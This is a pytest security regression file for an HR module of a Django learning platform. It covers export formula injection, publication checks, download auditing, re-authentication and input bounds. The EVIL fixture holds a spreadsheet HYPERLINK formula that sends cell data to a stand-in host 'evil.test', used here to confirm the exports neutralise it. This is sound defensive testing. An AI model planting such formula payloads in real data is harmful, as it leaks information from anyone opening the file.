"""Issue 13, HR side: formula injection in exports, assignments of unpublished courses,
the audit of HR certificate downloads; each through HTTP as the HR user."""

import csv
import io

import pytest
from openpyxl import load_workbook

from hr.models import Assignment
from officers.models import AuditLog, OfficerProfile
from progress.models import CourseCompletion
from tests.factories import make_course

EVIL = '=HYPERLINK("http://evil.test/?d="&A1,"ดูหลักฐาน")'


@pytest.fixture
def poisoned(client, users, course_b):
    """An assisted completion whose evidence, officer name and course title start with
    formula characters."""
    course_b.title = "+ลายมือชื่อ"
    course_b.save_revision().publish()
    OfficerProfile.objects.filter(user=users["officer1"]).update(
        title_th="", first_name_th="@SUM(1+1)", last_name_th="x"
    )
    client.force_login(users["hr_a"])
    resp = client.post(
        f"/hr/officers/{users['officer1'].pk}/assisted/",
        {"course": course_b.pk, "evidence": EVIL, "completed_on": "2026-01-10"},
    )
    assert resp.status_code == 302
    return course_b


def test_csv_export_neutralises_formula_cells(client, poisoned):
    text = b"".join(client.get("/hr/export.csv").streaming_content).decode("utf-8-sig")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["username"] == "officer1"]
    row = next(r for r in rows if r["evidence"])
    assert row["evidence"] == "'" + EVIL
    assert row["course"] == "'+ลายมือชื่อ"
    assert row["name_th"].startswith("'@")
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_xlsx_export_writes_text_never_formulas(client, poisoned):
    resp = client.get("/hr/export.xlsx")
    wb = load_workbook(io.BytesIO(b"".join(resp.streaming_content)))
    cells = [c for row in wb.active.iter_rows() for c in row]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in evil)
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "+ลายมือชื่อ" and c.data_type == "s" for c in cells)


def test_hr_cannot_assign_an_unpublished_course(client, users):
    draft = make_course("ร่างของหน่วยงานอื่น")
    draft.unpublish()
    client.force_login(users["hr_a"])
    unit = OfficerProfile.objects.get(user=users["officer1"]).agency
    resp = client.post(
        "/hr/assignments/", {"course": draft.pk, "unit": unit.pk, "due_date": "2027-01-31"}
    )
    assert resp.status_code == 400
    assert "เผยแพร่แล้ว" in resp.content.decode()
    assert not Assignment.objects.exists()
    resp = client.post(
        f"/hr/officers/{users['officer1'].pk}/assisted/",
        {"course": draft.pk, "evidence": "อบรม", "completed_on": "2026-01-10"},
    )
    assert resp.status_code == 400 and not CourseCompletion.objects.exists()
    live = make_course("เผยแพร่แล้ว")
    resp = client.post(
        "/hr/assignments/", {"course": live.pk, "unit": unit.pk, "due_date": "2027-01-31"}
    )
    assert resp.status_code == 302 and Assignment.objects.count() == 1


def test_hr_download_of_a_certificate_is_audited(
    client, users, settings, tmp_path, django_capture_on_commit_callbacks
):
    from progress.certificates.services import certificate_render
    from progress.completion.services import course_complete
    from progress.models import Certificate

    settings.CERTIFICATE_SIGNING_KEY = str(tmp_path / "keys" / "key.pem")
    settings.CERTIFICATE_SIGNING_CERT = str(tmp_path / "keys" / "cert.pem")
    with django_capture_on_commit_callbacks(execute=False):
        completion = course_complete(
            user=users["officer1"], course=make_course(), reason="all_lessons"
        )
    cert = Certificate.objects.get(completion=completion)
    certificate_render(certificate_id=cert.pk)
    client.force_login(users["officer1"])
    assert client.get(f"/certificates/{cert.code}/download/").status_code == 200
    assert not AuditLog.objects.filter(action="download").exists()  # one's own: no entry
    client.force_login(users["hr_a"])
    assert client.get(f"/certificates/{cert.code}/download/").status_code == 200
    entry = AuditLog.objects.get(action="download")
    assert (entry.actor, entry.subject) == (users["hr_a"], users["officer1"])


def test_hr_cannot_record_an_assisted_completion_for_themselves(
    client, users, course_b, django_capture_on_commit_callbacks
):
    me = users["hr_a"]
    client.force_login(me)
    with django_capture_on_commit_callbacks(execute=False):
        resp = client.post(
            f"/hr/officers/{me.pk}/assisted/",
            {"course": course_b.pk, "evidence": "อบรมแล้ว", "completed_on": "2026-01-10"},
        )
    assert resp.status_code == 403
    assert not CourseCompletion.objects.filter(user=me, course=course_b).exists()
    # The service refuses it too, whoever calls it.
    from hr.services import HrError, assisted_completion_record

    with pytest.raises(HrError):
        assisted_completion_record(
            recorded_by=me, officer_user_id=me.pk, course=course_b, evidence="อบรมแล้ว"
        )
    assert not CourseCompletion.objects.filter(user=me, course=course_b).exists()


def _signed_in(client, user, age: float) -> None:
    """A session that signed in with password and second factor ``age`` seconds ago."""
    import time

    client.force_login(user)
    session = client.session
    at = time.time() - age
    session["account_authentication_methods"] = [
        {"method": "password", "at": at, "username": user.username},
        {"method": "mfa", "at": at, "type": "totp"},
    ]
    session.save()


def test_records_api_needs_the_re_authentication_the_exports_need(
    client, users, course_b, settings
):
    settings.LMS_STAFF_MFA_TRUST_FORCE_LOGIN = False  # production behaviour
    _signed_in(client, users["hr_a"], age=3600)
    assert client.get("/hr/export.csv")["Location"].startswith("/accounts/reauthenticate/")
    stale = client.get("/api/v1/hr/records", {"limit": 1000})
    assert stale.status_code == 403
    assert "ยืนยันตัวตนอีกครั้ง" in stale.json()["detail"]
    assert not AuditLog.objects.filter(what="learning records (api)").exists()
    _signed_in(client, users["hr_a"], age=0)
    fresh = client.get("/api/v1/hr/records", {"limit": 1000})
    assert fresh.status_code == 200 and fresh.json()["count"] >= 1


@pytest.mark.parametrize(
    "query",
    [{"offset": "9" * 25}, {"offset": str(2**63)}, {"offset": "-1"}, {"limit": "9" * 25}],
)
def test_records_api_refuses_a_huge_offset_or_limit(users, query):
    from django.test import Client

    client = Client(raise_request_exception=False)
    client.force_login(users["hr_a"])
    resp = client.get("/api/v1/hr/records", query)
    assert resp.status_code in (400, 422), resp.status_code


@pytest.mark.parametrize("path", ["/hr/officers/{id}/", "/hr/officers/{id}/assisted/"])
@pytest.mark.parametrize("user_id", ["9" * 25, str(2**63)])
def test_an_officer_id_too_large_is_not_found(users, course_b, path, user_id):
    from django.test import Client

    client = Client(raise_request_exception=False)
    client.force_login(users["hr_a"])
    url = path.format(id=user_id)
    if url.endswith("/assisted/"):
        resp = client.post(url, {"course": course_b.pk, "evidence": "อบรม"})
    else:
        resp = client.get(url)
    assert resp.status_code == 404, (url, resp.status_code)
